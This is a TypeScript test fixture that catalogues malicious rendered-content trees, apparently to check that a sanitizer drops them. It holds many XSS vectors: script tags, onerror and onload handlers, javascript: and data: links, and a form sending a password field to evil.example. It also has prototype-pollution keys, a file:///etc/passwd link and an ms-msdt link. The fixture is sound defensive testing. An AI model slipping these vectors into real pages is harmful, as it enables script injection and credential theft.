/** What every piece of it would do if it ran. */
const RUN = 'window.hit=1';
/** Stands in each tree beside the malice, and must be read. */
export const SURVIVES = 'This sentence survives';

const text = (value: string) => ({ type: 'text', value });
const node = (tagName: unknown, properties: unknown = {}, ...children: unknown[]) => ({
  type: 'element',
  tagName,
  properties,
  children,
});
const p = (...children: unknown[]) => node('p', {}, ...children);
const a = (href: unknown, properties: object = {}) => p(node('a', { href, ...properties }, text('Read on')));
const nested = (levels: number): unknown => (levels === 0 ? text('deep') : node('blockquote', {}, nested(levels - 1)));
const good = p(text(`${SURVIVES}.`));

/** A tree whose lede and whose first section hold these nodes beside a harmless one. */
const withNodes = (...nodes: unknown[]) => ({
  lede: [good, ...nodes],
  sections: [{ heading: 'References', id: 'references', nodes: [good, ...nodes] }],
});
const inSections = (sections: unknown) => ({ lede: [good], sections });

/** Stored prose that no import would write, one idea each, as JSON. All of it can be read; what is malicious is left out. */
export const MALICIOUS_PROSE: Readonly<Record<string, string>> = Object.fromEntries(
  Object.entries({
    script: withNodes(node('script', {}, text(RUN))),
    'script with an address': withNodes(node('script', { src: 'https://evil.example/x.js' })),
    'script in capitals': withNodes(node('SCRIPT', {}, text(RUN))),
    'script in a paragraph': withNodes(p(node('strong', {}, node('script', {}, text(RUN))))),
    'image with a handler': withNodes(node('img', { src: 'x', onError: RUN, onerror: RUN })),
    'image of another host': withNodes(node('img', { src: 'https://evil.example/pixel.png' })),
    'drawing with a handler': withNodes(node('svg', { onLoad: RUN }, node('script', {}, text(RUN)))),
    'drawing with a link': withNodes(node('svg', {}, node('a', { 'xlink:href': `javascript:${RUN}` }, text('x')))),
    frame: withNodes(node('iframe', { src: 'https://evil.example/', srcDoc: `<script>parent.${RUN}</script>` })),
    object: withNodes(node('object', { data: 'https://evil.example/' }), node('embed', { src: '//evil.example/' })),
    'style sheet': withNodes(node('style', {}, text('@import "https://evil.example/x.css"; body { display: none }'))),
    'linked style sheet': withNodes(node('link', { rel: ['stylesheet'], href: 'https://evil.example/x.css' })),
    refresh: withNodes(node('meta', { httpEquiv: 'refresh', content: '0; url=https://evil.example/' })),
    'base of all addresses': withNodes(node('base', { href: 'https://evil.example/' })),
    form: withNodes(
      node(
        'form',
        { action: 'https://evil.example/' },
        node('input', { name: 'password', autoFocus: true, onFocus: RUN }),
      ),
      node('button', { formAction: `javascript:${RUN}` }, text('Search')),
    ),
    'details that open': withNodes(node('details', { open: true, onToggle: RUN }, text('x'))),
    'video and sound': withNodes(
      node('video', { src: 'https://evil.example/v', onError: RUN }),
      node('audio', { src: 'x' }),
    ),
    template: withNodes(node('template', { shadowRootMode: 'open' }, node('script', {}, text(RUN)))),
    'element of another language': withNodes(node('math', {}, node('mtext', {}, node('script', {}, text(RUN))))),
    'custom element': withNodes(node('x-evil', { is: 'script' }, text('x'))),
    'handlers on allowed elements': withNodes(
      node('p', { onClick: RUN, onclick: RUN, onMouseOver: RUN, onPointerEnter: RUN }, text('x')),
      node('table', { onScroll: RUN }, node('tbody', {}, node('tr', {}, node('td', { onClick: RUN }, text('x'))))),
    ),
    'HTML in a property': withNodes(
      node('p', JSON.parse(`{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=${RUN}>"}}`)),
    ),
    'inner HTML': withNodes(
      node('p', { innerHTML: `<img src=x onerror=${RUN}>`, outerHTML: `<script>${RUN}</script>` }),
    ),
    'style property': withNodes(node('p', { style: 'position:fixed;inset:0;background:url(https://evil.example/x)' })),
    'style object': withNodes(
      node('p', { style: { position: 'fixed', backgroundImage: 'url(https://evil.example/x)' } }),
    ),
    'class and id that the page uses': withNodes(
      node('p', { className: ['verdict'], id: 'hit', name: 'hit', slot: 's' }),
    ),
    'children and keys of React': withNodes(node('p', { children: RUN, key: 'k', ref: 'r', $$typeof: 'x', node: {} })),
    'ids that are no anchors': withNodes(
      node('h3', { id: '"><script>' }, text('x')),
      node('h4', { id: {} }, text('y')),
    ),
    'JavaScript as an address': withNodes(a(`javascript:${RUN}`), a(`JaVaScRiPt:${RUN}`), a(` javascript:${RUN}`)),
    'JavaScript behind control characters': withNodes(
      a(`java\tscript:${RUN}`),
      a(`\u0001javascript:${RUN}`),
      a(`java\nscript:${RUN}`),
    ),
    'data as an address': withNodes(a(`data:text/html,<script>${RUN}</script>`), a('blob:https://evil.example/1')),
    'other schemes': withNodes(
      a(`vbscript:${RUN}`),
      a('file:///etc/passwd'),
      a('ms-msdt:/id PCWDiagnostic'),
      a('search-ms:x'),
    ),
    'hidden hosts': withNodes(
      a('//evil.example/'),
      a('/\\evil.example/'),
      a('/\t/evil.example/'),
      a('https:evil.example'),
    ),
    'an address that is no text': withNodes(a(['javascript:', RUN]), a({ toString: 'x' }), a(1), a(null), a(true)),
    'more on a link': withNodes(
      a('/about', {
        target: '_blank',
        ping: 'https://evil.example/',
        download: 'x.exe',
        onClick: RUN,
        rel: ['opener'],
      }),
    ),
    'raw HTML': withNodes(
      { type: 'raw', value: `<script>${RUN}</script>` },
      { type: 'html', value: `<script>${RUN}</script>` },
    ),
    'a comment and a doctype': withNodes({ type: 'comment', value: `--><script>${RUN}</script>` }, { type: 'doctype' }),
    'MDX nodes': withNodes(
      { type: 'mdxJsxFlowElement', name: 'Evil', attributes: [], children: [text('x')] },
      { type: 'mdxJsxTextElement', name: 'script', attributes: [], children: [text(RUN)] },
      {
        type: 'mdxJsxFlowElement',
        name: 'Note',
        attributes: [{ type: 'mdxJsxExpressionAttribute', value: `...${RUN}` }],
        children: [],
      },
    ),
    'MDX code': withNodes(
      { type: 'mdxFlowExpression', value: RUN },
      { type: 'mdxTextExpression', value: RUN },
      { type: 'mdxjsEsm', value: `export const a = ${RUN}`, data: { estree: { type: 'Program', body: [] } } },
    ),
    'names of all objects': withNodes(
      ...['constructor', '__proto__', 'toString', 'hasOwnProperty', 'prototype'].map((name) =>
        node(name, {}, text('x')),
      ),
    ),
    'unknown components': withNodes(
      node('Evil', { run: RUN }, text('x')),
      node('Note.Evil', {}),
      node('note', {}, text('x')),
    ),
    'names that are no names': withNodes(
      node(`p onclick=${RUN}`, {}),
      node('', {}),
      node(null),
      node({ a: 1 }),
      node(['p']),
    ),
    'a component with more': withNodes(
      node(
        'Note',
        { kind: `info" onclick="${RUN}`, title: `"><script>${RUN}</script>`, onClick: RUN, style: 'x' },
        good,
      ),
      node('Note', { kind: 'constructor', title: { toString: 'x' }, constructor: 'x', children: RUN }, good),
    ),
    'a language that is none': withNodes(
      node('pre', {}, node('code', { className: ['language-"><script>'] }, text('x'))),
      node(
        'pre',
        {},
        node('code', { className: [{ toString: RUN }], onClick: RUN }, text(`</code></pre><script>${RUN}</script>`)),
      ),
    ),
    'values of table and list': withNodes(
      node('ol', { start: RUN, type: 'x' }, node('li', { value: RUN }, text('x'))),
      node(
        'table',
        { border: RUN },
        node('tr', {}, node('td', { align: `left" onclick="${RUN}`, colSpan: 1e9 }, text('x'))),
      ),
    ),
    'HTML as text': withNodes(
      p(text(`</p></script><script>${RUN}</script><img src=x onerror=${RUN}>`)),
      text(`<svg onload=${RUN}>`),
    ),
    'text that is none': withNodes(p({ type: 'text', value: { __html: RUN } }), { type: 'text' }, null, RUN, 7, [good]),
    'text that turns its direction': withNodes(p(text('\u202Egpj.exe\u2066 \u2028 \u2029 \u0000 \uFEFF \uD800 end'))),
    'keys of the prototype': `{"lede":[{"type":"element","tagName":"p","properties":{"__proto__":{"onClick":"${RUN}","style":"x"},"constructor":{"prototype":{"hit":1}}},"children":[{"type":"text","value":"${SURVIVES}."}]}],"sections":[{"heading":"References","id":"references","nodes":[],"__proto__":{"hit":1}}],"__proto__":{"hit":1}}`,
    'a section whose heading runs': inSections([
      { heading: `</h2><script>${RUN}</script>`, id: 'heading', nodes: [good] },
      { heading: `"><img src=x onerror=${RUN}>`, id: `"><img src=x onerror=${RUN}>`, nodes: [good] },
      { heading: { __html: RUN }, id: 'object', nodes: [good] },
    ]),
    'sections of another form': inSections({ 0: { heading: 'x', id: 'x', nodes: [] }, length: 1 }),
    'sections that are none': inSections([
      null,
      7,
      RUN,
      [],
      { nodes: 'x' },
      { heading: 'x', id: 'x', nodes: { 0: good } },
    ]),
    'nested too deeply': withNodes(nested(2_000)),
    'a list in place of everything': [good],
    nothing: null,
  }).map(([name, tree]) => [name, typeof tree === 'string' ? tree : JSON.stringify(tree)]),
);
